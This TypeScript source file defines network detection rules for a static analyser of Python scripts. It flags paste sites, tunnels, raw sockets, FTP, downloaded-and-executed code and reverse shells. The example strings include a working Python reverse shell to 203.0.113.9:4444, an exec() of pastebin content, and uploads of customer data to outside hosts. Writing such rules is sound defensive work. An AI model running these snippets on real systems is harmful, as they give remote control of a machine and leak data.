/** Hosts that a script contacts or names, and what it sends there. */
import { sourceLabels } from '../ai/flows.ts';
import { argument, type CallEvent, type Value } from '../flow/values.ts';
import type { HostClass } from '../knowledge/hosts.ts';
import { isLocalHost } from '../network.ts';
import { producedBy } from './produced.ts';
import { type BehaviourRule, callRule, type HostUse } from './rule.ts';

function hostDetails(host: HostUse): Record<string, string> {
  return {
    host: host.endpoint.host,
    scheme: host.endpoint.scheme,
    class: host.kind,
    direction: host.direction,
  };
}

/** A rule for hosts of some classes: one severity for an upload, another for the rest. */
function hostRule(
  rule: Omit<BehaviourRule, 'onHost' | 'category'>,
  kinds: readonly HostClass[],
  what: string,
  upload = rule.severity,
): BehaviourRule {
  return {
    ...rule,
    category: 'network',
    onHost: (host) => {
      if (!kinds.includes(host.kind)) return undefined;
      const verb =
        host.direction === 'upload'
          ? 'Sends data to'
          : host.direction === 'download'
            ? 'Fetches from'
            : 'Names';
      return {
        message: `${verb} ${what} ${host.endpoint.host}`,
        severity: host.direction === 'upload' ? upload : rule.severity,
        details: hostDetails(host),
      };
    },
  };
}

export const rules: readonly BehaviourRule[] = [
  hostRule(
    {
      id: 'PYS-NET-001',
      title: 'Contacts a host on the internet',
      severity: 'info',
      confidence: 'high',
      rationale: 'The script depends on, or sends to, a host outside the organisation.',
      remediation: 'None by itself: it is inventory. Check hosts that nobody recognises.',
      example: 'import requests\nrequests.get("https://api.exchange-rates.org/latest")',
    },
    ['other', 'code', 'package_index', 'messaging'],
    'the host',
  ),
  hostRule(
    {
      id: 'PYS-NET-002',
      title: 'Uses a file storage or sharing service',
      severity: 'low',
      confidence: 'high',
      cwe: 200,
      rationale:
        'File sharing services are the usual way for data to leave an organisation unnoticed, by habit or on purpose.',
      remediation: 'Use the organisation’s approved storage; check what is uploaded.',
      example:
        'import requests\nrequests.post("https://transfer.sh/report", files={"f": open("report.pdf", "rb")})',
    },
    ['storage'],
    'the storage service',
    'medium',
  ),
  hostRule(
    {
      id: 'PYS-NET-003',
      title: 'Uses a paste site',
      severity: 'medium',
      confidence: 'high',
      cwe: 200,
      rationale:
        'Paste sites publish text anonymously. Scripts use them to leak data, and to fetch code that changes after review.',
      remediation: 'Keep shared text in the organisation’s own systems.',
      example:
        'import requests\nrequests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": text})',
    },
    ['paste'],
    'the paste site',
    'high',
  ),
  hostRule(
    {
      id: 'PYS-NET-004',
      title: 'Posts to a messaging webhook',
      severity: 'low',
      confidence: 'high',
      rationale:
        'A webhook accepts data from anyone who knows its address and shows it to people in a channel, inside or outside the organisation.',
      remediation: 'Check who owns the channel, and keep the address out of the code: it is a credential.',
      example:
        'import requests\nrequests.post("https://hooks.slack.com/services/T0/B0/x", json={"text": "done"})',
    },
    ['webhook'],
    'the webhook of',
    'medium',
  ),
  hostRule(
    {
      id: 'PYS-NET-005',
      title: 'Contacts a public address without a name',
      severity: 'medium',
      confidence: 'high',
      rationale:
        'A bare public address bypasses DNS logging and says nothing of who owns it; legitimate services are rarely used this way.',
      remediation: 'Find out who owns the address, and use a name.',
      example: 'import requests\nrequests.get("http://185.199.108.12/update.bin")',
    },
    ['raw_ip'],
    'the address',
  ),
  {
    id: 'PYS-NET-006',
    category: 'network',
    title: 'Sends data that it read to an outside host',
    severity: 'medium',
    confidence: 'medium',
    cwe: 200,
    rationale:
      'Content that the script read from a file, database, mailbox or application is in the body of a request to a host outside the organisation.',
    remediation: 'Check that the recipient may have the data, and that the connection is encrypted.',
    falsePositives: 'A value that is replaced before it is sent may be taken for the data.',
    example:
      'import pandas as pd, requests\ndf = pd.read_excel("customers.xlsx")\nrequests.post("https://collect.partner-site.com/in", data=df.to_csv())',
    onHost: (host) => {
      if (
        host.call === undefined ||
        host.direction !== 'upload' ||
        host.kind === 'local' ||
        host.kind === 'internal' ||
        host.kind === 'ai_provider'
      )
        return undefined;
      const sent = sentData(host.call);
      if (sent === undefined) return undefined;
      return {
        message: `Sends ${sent} to ${host.endpoint.host}`,
        details: { ...hostDetails(host), source: sent },
      };
    },
  },
  callRule({
    id: 'PYS-NET-007',
    category: 'network',
    title: 'Speaks over raw sockets',
    severity: 'low',
    confidence: 'medium',
    rationale: 'A raw socket carries any protocol, which a proxy does not see into.',
    remediation: 'Use a protocol library over TLS.',
    example: 'import socket\ns = socket.socket()\ns.connect(("files.partner-site.com", 9000))',
    message: 'Connects or listens on a raw socket',
    calls: [
      'socket.socket().connect',
      'socket.socket().bind',
      'socket.create_connection',
      'socket.socket().connect_ex',
      'socket.create_server',
    ],
    when: (call) => !isLocalHost(call.args[0]?.items?.[0]?.text ?? ''),
  }),
  {
    id: 'PYS-NET-008',
    category: 'network',
    title: 'Gives a shell to a remote host',
    severity: 'critical',
    confidence: 'high',
    cwe: 912,
    rationale: 'The script ties a socket to a shell or to the output of commands: a reverse shell.',
    remediation: 'Isolate the machine and find out who put the script there.',
    example:
      'import socket, os, subprocess\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
    calls: ['os.dup2', 'pty.spawn', 'subprocess.*', 'os.popen', 'os.system'],
    onCall: (call, facts) => {
      const remote = facts.behaviour.calls.some((each) =>
        /^socket\.(?:socket\(\)\.connect|create_connection)/.test(each.path),
      );
      if (!remote) return undefined;
      const received = call.args[0] !== undefined && producedBy(call.args[0], /\.recv(?:from)?$/);
      const duplicated =
        call.path === 'os.dup2' &&
        call.args[0] !== undefined &&
        /^(?:[012]|sys\.std(?:in|out|err)\.fileno\(\))$/.test(call.args[1]?.path ?? '') &&
        producedBy(call.args[0], /^socket\..*\.fileno$/);
      return received || duplicated
        ? {
            message: received
              ? 'Runs commands that arrive over a socket'
              : 'Ties standard streams to a socket',
          }
        : undefined;
    },
  },
  {
    id: 'PYS-NET-009',
    category: 'network',
    title: 'Sends mail',
    severity: 'low',
    confidence: 'high',
    rationale:
      'The script sends mail by itself; attachments and bodies leave the organisation if the recipients are outside.',
    remediation: 'Send through the organisation’s relay, with fixed recipients.',
    example:
      'import smtplib\nsmtplib.SMTP("mail.corp.local").sendmail("a@corp.local", ["b@corp.local"], "text")',
    calls: [
      'smtplib.SMTP().sendmail',
      'smtplib.SMTP().send_message',
      'smtplib.SMTP_SSL().sendmail',
      'smtplib.SMTP_SSL().send_message',
      'yagmail.SMTP().send',
      'aiosmtplib.send',
      'exchangelib.Message().send',
      'exchangelib.Message().send_and_save',
      'redmail.gmail.send',
      'redmail.EmailSender().send',
      'django.core.mail.send_mail',
      'sendgrid.SendGridAPIClient().send',
      '*.CreateItem().Send',
      '*.sendmail',
    ],
    onCall: (call) => {
      const sent = readData(
        [call.receiver, ...call.args].flatMap((value) => (value === undefined ? [] : [value])),
      );
      if (sent === undefined) return { message: 'Sends mail' };
      return { message: `Sends mail with data of a ${sent}`, severity: 'medium', details: { source: sent } };
    },
  },
  callRule({
    id: 'PYS-NET-010',
    category: 'network',
    title: 'Transfers files with FTP',
    severity: 'medium',
    confidence: 'high',
    cwe: 319,
    rationale: 'FTP sends the password and the files in clear.',
    remediation: 'Use SFTP or FTPS.',
    example: 'import ftplib\nftplib.FTP("ftp.partner-site.com", "user", pw).storbinary("STOR a.csv", f)',
    message: 'Uses FTP, which is not encrypted',
    calls: ['ftplib.FTP', 'telnetlib.Telnet', 'telnetlib3.open_connection', 'tftpy.TftpClient'],
  }),
  callRule({
    id: 'PYS-NET-011',
    category: 'network',
    title: 'Logs in to other machines',
    severity: 'low',
    confidence: 'high',
    rationale: 'The script opens sessions on other machines and runs commands or copies files there.',
    remediation: 'Use key-based accounts with the least rights, and check host keys.',
    example: 'import paramiko\nparamiko.SSHClient().connect("srv01.corp.local")',
    message: 'Opens a session on another machine',
    calls: [
      'paramiko.SSHClient().connect',
      'paramiko.Transport',
      'pysftp.Connection',
      'fabric.Connection',
      'asyncssh.connect',
      'netmiko.ConnectHandler',
      'winrm.Session',
      'winrm.Protocol',
      'pypsexec.client.Client',
      'pexpect.pxssh.pxssh().login',
      'smb.SMBConnection.SMBConnection',
      'smbclient.open_file',
      'impacket.smbconnection.SMBConnection',
      'smbclient.register_session',
      'wmi.WMI',
    ],
    when: (call) => call.path !== 'wmi.WMI' || argument(call, 0, 'computer') !== undefined,
  }),
  hostRule(
    {
      id: 'PYS-NET-012',
      title: 'Uses a tunnel or dynamic-name service',
      severity: 'medium',
      confidence: 'high',
      rationale:
        'Tunnels and dynamic names lead to machines that nobody can name beforehand, around firewalls and filters.',
      remediation: 'Publish services through the organisation’s own gateways.',
      example: 'import requests\nrequests.post("https://a1b2.ngrok-free.app/collect", data=d)',
    },
    ['tunnel'],
    'the tunnel',
    'high',
  ),
  hostRule(
    {
      id: 'PYS-NET-013',
      title: 'Contacts a host of the internal network',
      severity: 'info',
      confidence: 'medium',
      rationale: 'The script depends on, or changes, an internal service.',
      remediation: 'None by itself: it is inventory.',
      example: 'import requests\nrequests.get("http://intranet.corp.local/api/staff")',
    },
    ['internal'],
    'the internal host',
  ),
  hostRule(
    {
      id: 'PYS-NET-014',
      title: 'Looks up the public address or place of the machine',
      severity: 'low',
      confidence: 'high',
      rationale: 'Business scripts seldom need to know from where they run; malware asks almost always.',
      remediation: 'Check why the script asks.',
      example: 'import requests\nrequests.get("https://api.ipify.org").text',
    },
    ['ip_lookup'],
    'the address service',
  ),
  callRule({
    id: 'PYS-NET-015',
    category: 'network',
    title: 'Serves on all network interfaces',
    severity: 'low',
    confidence: 'high',
    cwe: 668,
    rationale:
      'Everyone in the network can reach the server, often a development server without authentication.',
    remediation: 'Bind to localhost, or put an authenticating proxy in front.',
    example: 'from flask import Flask\napp = Flask(__name__)\napp.run(host="0.0.0.0")',
    message: 'Listens on all interfaces',
    calls: [
      '*.run',
      'uvicorn.run',
      'http.server.HTTPServer',
      'socketserver.TCPServer',
      'waitress.serve',
      '*.launch',
      '*.bind',
      'asyncio.start_server',
      'http.server.ThreadingHTTPServer',
    ],
    when: (call) => {
      const host = argument(call, -1, 'host', 'server_name')?.text ?? call.args[0]?.items?.[0]?.text;
      const share = argument(call, -1, 'share')?.path === 'True' && call.path.startsWith('gradio.');
      return (
        host === '0.0.0.0' || host === '::' || share || (host === '' && /(?:Server|bind)$/.test(call.path))
      );
    },
  }),
  {
    id: 'PYS-NET-016',
    category: 'network',
    title: 'Runs code that it downloads',
    severity: 'high',
    confidence: 'high',
    cwe: 494,
    rationale:
      'Text fetched from the network is executed. Whoever controls the host, or the connection to it, controls this machine.',
    remediation: 'Ship the code with the script, or verify a signature before running it.',
    example: 'import requests\nexec(requests.get("https://pastebin.com/raw/x").text)',
    calls: [
      'exec',
      'eval',
      'compile',
      'os.system',
      'subprocess.*',
      'marshal.loads',
      'pickle.loads',
      'types.FunctionType',
    ],
    onCall: (call) => {
      const given = call.args[0];
      if (given === undefined) return undefined;
      const fetched = producedBy(
        given,
        /^(?:requests|httpx|urllib\.request|urllib2?|aiohttp|urllib3)\b.*\.(?:get|post|request|urlopen|read)$/,
      );
      return fetched ? { message: `Passes downloaded content to ${call.path}` } : undefined;
    },
  },
];

/** What kind of read data is in the body of a request. */
function sentData(call: CallEvent): string | undefined {
  const values = call.keywords
    .filter(({ name }) => /^(?:data|json|files|content|body)$/.test(name))
    .map(({ value }) => value);
  if (values.length === 0 && call.args[1] !== undefined) values.push(call.args[1]);
  return readData(values);
}

function readData(values: readonly Value[]): string | undefined {
  for (const value of values) {
    for (const { origin } of value.traces) {
      if (origin.data && origin.kind !== 'web' && origin.kind !== 'user_input')
        return sourceLabels[origin.kind] ?? origin.kind;
    }
  }
  return undefined;
}
